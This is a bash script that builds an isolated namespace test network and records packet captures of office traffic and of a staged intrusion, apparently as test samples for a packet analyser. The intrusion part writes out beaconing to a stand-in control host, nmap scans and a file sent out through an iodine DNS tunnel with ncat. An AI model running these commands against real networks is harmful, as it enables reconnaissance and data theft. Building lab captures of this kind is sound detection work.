#!/bin/bash
# Records the samples of the empty page on a test network of our own:
#   sudo .scripts/record-samples.sh [office|intrusion|all]
# Real programs in network namespaces, joined by a bridge that is recorded: three desks and a file server, a resolver
# (dnsmasq: DNS and DHCP), a router, and one namespace that plays the internet. Names and addresses
# are private or reserved for documentation. Nothing in the files is edited afterwards: times are as recorded.
# src/headless/samples.test.ts holds what tshark says of them: new recordings need new numbers there.
# Debian: apt-get install iproute2 ethtool dnsmasq caddy curl dnsutils nmap ncat iodine chrony ntpsec-ntpdate \
#   isc-dhcp-client openssh-server openssh-client traceroute iputils-ping openssl chromium wireshark-common
set -euo pipefail
cd "$(dirname "$0")/.."
out=$PWD/public/samples
work=$(mktemp -d)
what=${1:-all}
spaces=(cs-switch cs-router cs-internet cs-resolver cs-server cs-desk1 cs-desk2 cs-desk3)

[ "$(id -u)" = 0 ] || { echo "must be root: it makes network namespaces" >&2; exit 1; }
for tool in ip ethtool dnsmasq caddy curl dig nmap ncat iodine iodined chronyd ntpdate dhclient sshd ssh traceroute ping openssl chromium dumpcap; do
  command -v "$tool" >/dev/null || { echo "missing: $tool" >&2; exit 1; }
done

in_space() { local space=$1; shift; ip netns exec "cs-$space" "$@"; }
quiet() { "$@" >/dev/null 2>&1 || true; }

clean() {
  for space in "${spaces[@]}"; do
    [ -e "/run/netns/$space" ] || continue
    ip netns pids "$space" | xargs -r kill 2>/dev/null || true
    sleep 0.2
    ip netns del "$space" || true
    rm -rf "/etc/netns/$space"
  done
  rm -rf "$work"
}
trap clean EXIT

# --- the wire -----------------------------------------------------------------------------------------------------
plug() { # plug SPACE MAC: a cable from the space's eth0 to the switch; no offloads, so that frames are as on a wire
  ip link add "p-$1" netns cs-switch type veth peer name eth0 netns "cs-$1" address "$2"
  in_space switch ip link set "p-$1" master lan up
  in_space switch ethtool -K "p-$1" tx off tso off gso off gro off >/dev/null
  in_space "$1" ethtool -K eth0 tx off tso off gso off gro off >/dev/null
  in_space "$1" ip link set eth0 up
}

lay() {
  for space in "${spaces[@]}"; do
    ip netns add "$space"
    ip -n "$space" link set lo up
    mkdir -p "/etc/netns/$space"
    echo 'nameserver 192.168.20.2' >"/etc/netns/$space/resolv.conf"
    printf '127.0.0.1 localhost\n' >"/etc/netns/$space/hosts"
  done
  in_space switch ip link add lan type bridge mcast_snooping 0
  in_space switch ip link set lan up
  plug router 02:00:5e:14:00:01
  plug resolver 02:00:5e:14:00:02
  plug server 02:00:5e:14:00:0a
  for desk in 1 2 3; do plug "desk$desk" "02:00:5e:14:00:3$desk"; done
  in_space router ip addr add 192.168.20.1/24 dev eth0
  in_space router ip addr add 2001:db8:20::1/64 dev eth0 nodad
  in_space resolver ip addr add 192.168.20.2/24 dev eth0
  in_space resolver ip addr add 2001:db8:20::2/64 dev eth0 nodad
  in_space server ip addr add 192.168.20.10/24 dev eth0
  for space in resolver server; do
    in_space "$space" ip route add default via 192.168.20.1
    in_space "$space" ip -6 route replace default via 2001:db8:20::1 dev eth0 onlink
  done
  for desk in 1 2 3; do
    in_space "desk$desk" ip addr add "2001:db8:20::3$desk/64" dev eth0
    in_space "desk$desk" ip -6 route replace default via 2001:db8:20::1 dev eth0 onlink
  done
  ip link add wan netns cs-router type veth peer name eth0 netns cs-internet
  in_space router ethtool -K wan tx off tso off gso off gro off >/dev/null
  in_space internet ethtool -K eth0 tx off tso off gso off gro off >/dev/null
  in_space router ip addr add 203.0.113.1/24 dev wan
  in_space router ip addr add 2001:db8:80::1/64 dev wan nodad
  in_space router ip link set wan up
  in_space router sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
  in_space internet ip link set eth0 up
  for address in 203.0.113.10 203.0.113.20 203.0.113.30 203.0.113.123; do
    in_space internet ip addr add "$address/24" dev eth0
  done
  for address in 192.0.2.66 192.0.2.53 198.51.100.22; do in_space internet ip addr add "$address/32" dev lo; done
  in_space internet ip addr add 2001:db8:80::10/64 dev eth0 nodad
  in_space internet ip route add default via 203.0.113.1
  in_space internet ip -6 route add default via 2001:db8:80::1 dev eth0 onlink
  in_space router ip route add 192.0.2.0/24 via 203.0.113.10
  in_space router ip route add 198.51.100.0/24 via 203.0.113.10
  # a path of some milliseconds, where the kernel can (module sch_netem)
  in_space internet tc qdisc add dev eth0 root netem delay 9ms 2ms 25% 2>/dev/null || true
}

# --- the programs -------------------------------------------------------------------------------------------------
certificate() { # certificate FILE NAME…: signed by our own authority
  local file=$1 names='' name; shift
  for name; do names+="${names:+,}DNS:$name"; done
  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$work/$file.key" -out "$work/$file.csr" \
    -subj "/C=XX/O=Example Organisation/CN=$1" 2>/dev/null
  openssl x509 -req -in "$work/$file.csr" -CA "$work/ca.crt" -CAkey "$work/ca.key" -CAcreateserial -days 365 \
    -extfile <(echo "subjectAltName=$names") 2>/dev/null >"$work/$file.leaf"
  cat "$work/$file.leaf" "$work/ca.crt" >"$work/$file.crt"
}

picture() { # picture FILE WIDTH,HEIGHT WORD: a PNG, painted by the browser
  quiet in_space internet timeout 20 chromium --headless=new --no-sandbox --disable-gpu --user-data-dir="$work/painter" \
    --disable-background-networking --disable-component-update --window-size="$2" --screenshot="$1" \
    "data:text/html,<body style='background:conic-gradient(teal,gold,teal)'><h1>$3</h1>"
  [ -s "$1" ] || { echo "no picture $1" >&2; exit 1; }
}

serve() {
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 3650 -keyout "$work/ca.key" \
    -out "$work/ca.crt" -subj '/C=XX/O=Capscope Test Network/CN=Capscope Test Root' 2>/dev/null
  certificate www www.example.com example.com
  certificate static static.example.net
  certificate api api.example.org
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -keyout "$work/edge.key" -out "$work/edge.crt" \
    -subj '/CN=edge-metrics.example' 2>/dev/null

  mkdir -p "$work/www" "$work/static"
  local page
  for page in index news team prices contact; do
    {
      echo "<!doctype html><title>Example: $page</title><link rel=stylesheet href=https://static.example.net/site.css>"
      echo "<h1>Example organisation, $page</h1><img src=https://static.example.net/$page.png alt=''>"
      for _ in $(seq 40); do echo "<p>This page exists for a recording on a test network. It says nothing of importance.</p>"; done
      echo "<img src=/logo.png alt=''><script>fetch('/hello.json').then((r) => r.json())</script>"
    } >"$work/www/$page.html"
    picture "$work/static/$page.png" 240,120 "$page"
  done
  picture "$work/www/logo.png" 480,240 Example
  head -c 60000 /dev/urandom >"$work/www/report.pdf"
  echo '{"hello": "world", "items": [1, 2, 3]}' >"$work/www/hello.json"
  printf 'body { font: 16px serif }\n%.0s' $(seq 200) >"$work/static/site.css"

  cat >"$work/Caddyfile" <<CADDY
{
  admin off
  auto_https off
}
http://example.com { 
  bind 203.0.113.10
  redir http://www.example.com{uri} 301
}
http://www.example.com {
  bind 203.0.113.10 2001:db8:80::10
  root * $work/www
  encode gzip
  file_server
}
https://www.example.com {
  bind 203.0.113.10 2001:db8:80::10
  tls $work/www.crt $work/www.key
  root * $work/www
  encode gzip
  file_server
}
https://static.example.net {
  bind 203.0.113.20
  tls $work/static.crt $work/static.key
  root * $work/static
  header Access-Control-Allow-Origin *
  file_server
}
https://api.example.org {
  bind 203.0.113.30
  tls $work/api.crt $work/api.key
  header Content-Type application/json
  respond /v1/* "{\"ok\": true}" 200
  respond 404
}
https://edge-metrics.example {
  bind 192.0.2.66
  tls $work/edge.crt $work/edge.key
  respond /v2/poll "{\"wait\": 5}" 200
  respond 404
}
CADDY
  HOME=$work XDG_DATA_HOME=$work XDG_CONFIG_HOME=$work ip netns exec cs-internet caddy run --config "$work/Caddyfile" \
    --adapter caddyfile >"$work/caddy.log" 2>&1 &

  cat >"$work/dnsmasq.conf" <<DNSMASQ
no-resolv
no-hosts
bind-interfaces
interface=eth0
domain=office.example
dhcp-range=192.168.20.100,192.168.20.120,1h
dhcp-host=02:00:5e:14:00:31,desk-1,192.168.20.31
dhcp-host=02:00:5e:14:00:32,desk-2,192.168.20.32
dhcp-host=02:00:5e:14:00:33,desk-3,192.168.20.33
dhcp-option=option:router,192.168.20.1
dhcp-option=option:dns-server,192.168.20.2
dhcp-option=option:ntp-server,203.0.113.123
dhcp-leasefile=$work/leases
dhcp-authoritative
host-record=gateway.office.example,192.168.20.1
host-record=files.office.example,192.168.20.10
host-record=example.com,203.0.113.10
host-record=www.example.com,203.0.113.10,2001:db8:80::10
host-record=host-20.example.net,203.0.113.20
cname=static.example.net,host-20.example.net
host-record=api.example.org,203.0.113.30
host-record=time.example.net,203.0.113.123
host-record=shell.example.org,198.51.100.22
host-record=edge-metrics.example,192.0.2.66
host-record=mail.example.com,203.0.113.10
mx-host=example.com,mail.example.com,10
txt-record=example.com,"v=spf1 mx -all"
srv-host=_ldap._tcp.office.example,files.office.example,389,0,100
local=/example.com/example.net/example.org/office.example/edge-metrics.example/
server=/t.edge-metrics.example/192.0.2.53
local-ttl=120
pid-file=
DNSMASQ
  in_space resolver dnsmasq -k -C "$work/dnsmasq.conf" >"$work/dnsmasq.log" 2>&1 &

  printf 'local stratum 3\nallow\nport 123\ncmdport 0\nbindaddress 203.0.113.123\npidfile %s\n' "$work/chronyd.pid" >"$work/chrony.conf"
  in_space internet chronyd -x -d -u root -f "$work/chrony.conf" >"$work/chrony.log" 2>&1 &

  ssh-keygen -q -t ed25519 -N '' -f "$work/host_key"
  ssh-keygen -q -t ed25519 -N '' -f "$work/user_key"
  mkdir -p /run/sshd
  cat >"$work/sshd_config" <<SSHD
HostKey $work/host_key
AuthorizedKeysFile $work/user_key.pub
PasswordAuthentication no
StrictModes no
UsePAM no
PidFile none
SSHD
  in_space internet "$(command -v sshd)" -D -f "$work/sshd_config" -o ListenAddress=198.51.100.22 2>"$work/sshd.log" &
  in_space server "$(command -v sshd)" -D -f "$work/sshd_config" -o ListenAddress=192.168.20.10 2>>"$work/sshd.log" &
  in_space server ncat -lk 192.168.20.10 8080 -c 'printf "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nfiles\n"' 2>/dev/null &
  sleep 2
}

record() { # record FILE OPTION: -n is pcapng, -P is pcap
  in_space switch dumpcap -q -i lan "$2" -w "$work/$1" 2>"$work/dumpcap.log" &
  recorder=$!
  sleep 1
}

store() {
  sleep 2
  kill -TERM "$recorder"
  wait "$recorder" || true
  cp "$work/$1" "$out/$1"
  chmod 644 "$out/$1"
  capinfos -c -s -u "$out/$1"
}

# dhclient's own script would rewrite the machine's resolver
cat >"$work/dhcp-script" <<'SCRIPT'
#!/bin/sh
case $reason in BOUND | RENEW | REBIND | REBOOT)
  ip addr replace "$new_ip_address/24" dev "$interface"
  ip route replace default via 192.168.20.1 ;;
esac
SCRIPT
chmod +x "$work/dhcp-script"
lease() { # lease DESK
  echo "send host-name \"desk-$1\";" >"$work/dhclient-$1.conf"
  in_space "desk$1" dhclient -4 -1 -q -sf "$work/dhcp-script" -cf "$work/dhclient-$1.conf" -lf "$work/lease-$1" \
    -pf "$work/dhclient-$1.pid" eth0 >"$work/dhclient-$1.log" 2>&1 || echo "no lease for desk$1"
}

browse() { # browse DESK ADDRESS-OF-PAGE: HTTP/3 where the server has it
  local key pins=''
  for key in www static api; do
    pins+="${pins:+,}$(openssl x509 -in "$work/$key.crt" -pubkey -noout | openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | base64)"
  done
  in_space "desk$1" timeout 30 chromium --headless=new --no-sandbox --disable-gpu --user-data-dir="$work/profile-$1" --no-first-run \
    --disable-background-networking --disable-component-update --disable-sync --disable-default-apps --disable-extensions \
    --disable-domain-reliability --disable-client-side-phishing-detection --no-pings --disable-dev-shm-usage \
    --disable-features=OptimizationHints,MediaRouter,Translate,AutofillServerCommunication,CertificateTransparencyComponentUpdater,DnsOverHttps,NetworkTimeServiceQuerying \
    --host-resolver-rules='MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND, MAP *.gstatic.com ~NOTFOUND' \
    --origin-to-force-quic-on=www.example.com:443,static.example.net:443 --ignore-certificate-errors-spki-list="$pins" \
    --timeout=6000 --dump-dom "$2" >/dev/null 2>"$work/chromium-$1.log" || true
}

fetch() { # fetch DESK curl-parameters…
  local desk=$1; shift
  quiet in_space "desk$desk" curl -s -m 10 --cacert "$work/ca.crt" -o /dev/null "$@"
}
remote() { # remote DESK HOST COMMAND
  quiet in_space "desk$1" timeout 10 ssh -i "$work/user_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o GlobalKnownHostsFile=/dev/null -F none "root@$2" "$3"
}
pages=(index news team prices contact)
pause() { sleep "$(awk -v least="$1" -v most="$2" -v seed="$RANDOM$RANDOM" 'BEGIN { srand(seed); print least + (most - least) * rand() }')"; }

# --- a morning in the office --------------------------------------------------------------------------------------
unhurried() { "$@"; pause 0.3 3; }

office() {
  record office.pcapng -n
  lease 1 & lease 2 & lease 3 &
  sleep 6
  unhurried fetch 1 -L http://example.com/
  unhurried fetch 1 http://www.example.com/news.html http://www.example.com/logo.png
  unhurried fetch 2 --compressed http://www.example.com/team.html
  unhurried fetch 2 http://www.example.com/missing.html
  unhurried fetch 3 -d 'name=Carla&message=hello' http://www.example.com/contact.html
  unhurried fetch 3 -H 'Expect: 100-continue' -T "$work/www/hello.json" http://www.example.com/upload
  unhurried quiet in_space desk1 dig +tries=1 example.com MX
  unhurried quiet in_space desk1 dig +tries=1 example.com TXT
  unhurried quiet in_space desk2 dig +tries=1 -x 192.168.20.10
  unhurried quiet in_space desk2 dig +tries=1 nowhere.example.com
  unhurried quiet in_space desk3 dig +tries=1 +tcp _ldap._tcp.office.example SRV
  for desk in 1 2 3; do quiet in_space "desk$desk" ntpdate -q -p 2 time.example.net; done
  unhurried fetch 1 https://www.example.com/ https://www.example.com/report.pdf
  unhurried fetch 2 --tls-max 1.2 --http1.1 https://www.example.com/prices.html
  unhurried fetch 3 --http1.1 https://api.example.org/v1/status
  unhurried fetch 2 -6 https://www.example.com/index.html
  unhurried browse 1 https://www.example.com/index.html
  unhurried browse 2 https://www.example.com/news.html
  unhurried remote 1 shell.example.org 'uname -a; ls -l /usr/bin | head -200'
  unhurried remote 3 192.168.20.10 'cat /etc/services'
  unhurried fetch 3 http://files.office.example:8080/
  unhurried fetch 3 http://files.office.example:9090/
  unhurried quiet in_space desk1 ping -c 4 -i 0.3 www.example.com
  unhurried quiet in_space desk1 ping -6 -c 3 -i 0.3 www.example.com
  unhurried quiet in_space desk2 ping -c 2 -s 3000 -i 0.3 203.0.113.20
  unhurried quiet in_space desk3 traceroute -n -q 1 -w 1 -m 4 203.0.113.30
  unhurried fetch 1 --http1.1 -X OPTIONS https://api.example.org/v1/orders
  browse 3 https://www.example.com/prices.html
  store office.pcapng
}

# --- an afternoon with a guest: desk-2 polls its owner, looks around, and carries a file out through DNS names ----------
work_day() { # work_day DESK SECONDS
  local until=$((SECONDS + $2))
  while [ $SECONDS -lt $until ]; do
    local page=${pages[RANDOM % 5]}
    case $((RANDOM % 6)) in
      0 | 1) fetch "$1" --compressed "https://www.example.com/$page.html" ;;
      2) fetch "$1" "https://static.example.net/$page.png" ;;
      3) fetch "$1" --compressed "http://www.example.com/$page.html" ;;
      4) fetch "$1" --http1.1 "https://api.example.org/v1/$page" ;;
      5) quiet in_space "desk$1" dig +tries=1 "$page.office.example" ;;
    esac
    pause 4 22
  done
}

poll() { # poll SECONDS: every 5 s, up to a tenth earlier or later
  local until=$((SECONDS + $1))
  while [ $SECONDS -lt $until ]; do
    quiet in_space desk2 curl -s -m 4 -k --http1.1 -A 'Mozilla/5.0 (compatible)' -o /dev/null https://edge-metrics.example/v2/poll
    pause 4.44 5.44
  done
}

carry_out() {
  in_space internet iodined -f -c -P correct-horse -l 192.0.2.53 10.99.0.1/24 t.edge-metrics.example >"$work/iodined.log" 2>&1 &
  sleep 1
  in_space internet ncat -l 10.99.0.1 9000 >/dev/null 2>&1 &
  in_space desk2 iodine -f -r -T TXT -I 20 -P correct-horse 192.168.20.2 t.edge-metrics.example >"$work/iodine.log" 2>&1 &
  local tunnel=$!
  sleep 12
  head -c 12000 /dev/urandom | base64 >"$work/customers.csv"
  quiet in_space desk2 timeout 40 ncat --send-only 10.99.0.1 9000 <"$work/customers.csv"
  sleep 5
  quiet kill "$tunnel"
}

intrusion() {
  for desk in 1 2 3; do lease "$desk"; done
  sleep 3
  record intrusion.pcap -P
  local length=480
  work_day 1 $length & work_day 3 $length & work_day 2 $length &
  poll $length &
  local polling=$!
  sleep 90
  quiet in_space desk2 nmap -n -sn 192.168.20.0/27
  sleep 20
  quiet in_space desk2 nmap -n -Pn -sS -T4 -p 1-1024,3306,3389,5432,5900,8080 192.168.20.10
  sleep 20
  quiet in_space desk2 nmap -n -Pn -sT -T4 -p 22,445,3389 192.168.20.1-33
  sleep 30
  remote 2 192.168.20.10 'cat /etc/services /etc/protocols'
  sleep 15
  carry_out
  wait "$polling"
  sleep 5
  store intrusion.pcap
}

mkdir -p "$out"
lay
serve
if [ "$what" != intrusion ]; then office; fi
if [ "$what" != office ]; then intrusion; fi
